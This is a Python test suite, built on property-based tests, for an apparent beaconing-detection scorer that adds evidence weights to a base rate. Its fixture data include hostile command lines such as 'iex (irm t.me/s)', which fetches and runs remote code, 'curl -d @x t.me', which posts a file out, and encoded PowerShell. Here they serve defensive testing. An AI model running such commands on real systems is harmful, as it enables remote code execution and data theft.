"""The parts sum to the whole: base rate and weights make the log-odds of the score."""

import functools
import math
import operator

import polars as pl
import pytest
from channel_rows import channel, observed
from hypothesis import given
from hypothesis import strategies as st

from beacon import evidence, rank
from beacon.settings import RankSettings

channels = st.fixed_dictionaries(
    {
        "host": st.sampled_from(["a", "b", "c"]),
        "process": st.sampled_from(["python.exe", "cmd.exe", "mshta.exe"]),
        "domain": st.sampled_from(["raw.githubusercontent.com", "t.me", "10.0.0.1"]),
        "matched_domains": st.lists(st.sampled_from(["t.me", "github.com"]), max_size=2),
        "parents": st.lists(st.sampled_from(["cmd.exe", "winword.exe", "code.exe"]), max_size=2),
        "paths": st.lists(st.sampled_from(["c:\\temp\\x.exe", "c:\\python\\x.exe"]), max_size=2),
        "original_names": st.lists(st.sampled_from(["curl.exe", "python.exe"]), max_size=1),
        "accounts": st.lists(st.sampled_from(["jdoe", "svc-web", "system"]), max_size=2),
        "command_lines": st.lists(
            st.sampled_from(["x -enc JAB", "iex (irm t.me/s)", "curl -d @x t.me"]), max_size=2
        ),
        "status": st.sampled_from(["scored", "insufficient"]),
        "polls": st.integers(0, 5000),
        "events": st.integers(0, 5000),
        "active_hours": st.integers(0, 24),
        "timing_evidence": st.floats(-9, 9),
        "jitter_fraction": st.none() | st.floats(0, 1),
        "period_seconds": st.none() | st.floats(1, 9e4),
        "is_encoded_cmd": st.booleans(),
        "suspicious_parent": st.booleans(),
        "host_attended": st.none() | st.booleans(),
    }
)


def weigh(rows: list[dict[str, object]], base_rate: float = 1e-3) -> pl.DataFrame:
    frame = observed(*[channel(**row) for row in rows], fleet_hosts=40)
    return evidence.weigh(frame, base_rate)


@given(rows=st.lists(channels, min_size=1, max_size=5), base_rate=st.floats(1e-6, 0.5))
def test_weights_and_base_rate_sum_to_the_log_odds(
    rows: list[dict[str, object]], base_rate: float
) -> None:
    for row in weigh(rows, base_rate).iter_rows(named=True):
        total = math.log(base_rate / (1 - base_rate)) + sum(e["weight"] for e in row["evidence"])
        assert row["log_odds"] == pytest.approx(total, abs=1e-9)


@given(rows=st.lists(channels, min_size=1, max_size=5))
def test_the_sum_runs_from_left_to_right_to_the_last_digit(rows: list[dict[str, object]]) -> None:
    for row in weigh(rows).iter_rows(named=True):
        parts = [entry["weight"] for entry in row["evidence"]]
        assert row["log_odds"] == functools.reduce(operator.add, parts) + evidence.logit(1e-3)


@given(rows=st.lists(channels, min_size=1, max_size=5))
def test_every_term_is_listed_and_only_what_fired_has_weight(
    rows: list[dict[str, object]],
) -> None:
    for row in weigh(rows).iter_rows(named=True):
        names = [evidence.AVERAGE, *(term.name for term in evidence.TERMS)]
        assert [e["name"] for e in row["evidence"]] == names
        for entry in row["evidence"]:
            assert entry["state"] in {"fired", "not fired", "not observable"}
            if entry["state"] != "fired":
                assert entry["weight"] == 0
            if entry["state"] == "not observable":
                assert entry["value"] == ""


def test_of_a_channel_that_nothing_is_known_of_only_the_fleet_is_observable() -> None:
    entries = {entry["name"]: entry for entry in weigh([{}])["evidence"][0]}
    seen = {name for name, entry in entries.items() if entry["state"] != "not observable"}
    assert seen == {evidence.AVERAGE, "common in fleet"}
    average = entries[evidence.AVERAGE]["value"]
    assert average == "what an average channel shows in the 1 term observable here"


def test_what_is_not_observable_counts_as_average() -> None:
    """Hiding a term moves the score to where the mean over its values lies, not to 'no'."""
    weights = evidence.Weights({"system tool": 2.0}, {"system tool": 0.25}, {}, 0.01, {})
    tool, other = (
        evidence.weigh(observed(channel(process=name)), 0.5, weights)["log_odds"].item()
        for name in ("mshta.exe", "python.exe")
    )
    assert 0.25 * tool + 0.75 * other == pytest.approx(0.0)
    unknown = evidence.Weights({"office parent": 2.0}, {"office parent": 0.25}, {}, 0.01, {})
    assert evidence.weigh(observed(channel()), 0.5, unknown)["log_odds"].item() == 0.0


@given(rates=st.tuples(st.floats(1e-6, 0.9), st.floats(1e-6, 0.9)))
def test_the_base_rate_moves_all_scores_alike(rates: tuple[float, float]) -> None:
    rows = [{"process": "mshta.exe"}, {"line": "powershell -enc JAB"}]
    low, high = (weigh(rows, rate)["log_odds"] for rate in rates)
    expected = evidence.logit(rates[1]) - evidence.logit(rates[0])
    assert (high - low).to_list() == pytest.approx([expected] * 2, abs=1e-9)


def test_the_order_is_total_and_the_names_are_stable() -> None:
    ties = pl.DataFrame(
        {"host": ["b", "a"], "process": ["p", "p"], "domain": ["d", "d"], "log_odds": [1.0, 1.0]}
    )
    assert ties.select(rank.alert_ids("seed")).equals(
        ties.reverse().select(rank.alert_ids("seed")).reverse()
    )
    ids = ties.select(rank.alert_ids("seed")).to_series()
    assert ids.n_unique() == 2
    assert ties.select(rank.alert_ids("extended")).to_series().to_list() != ids.to_list()
    assert RankSettings().critical_score > RankSettings().low_score
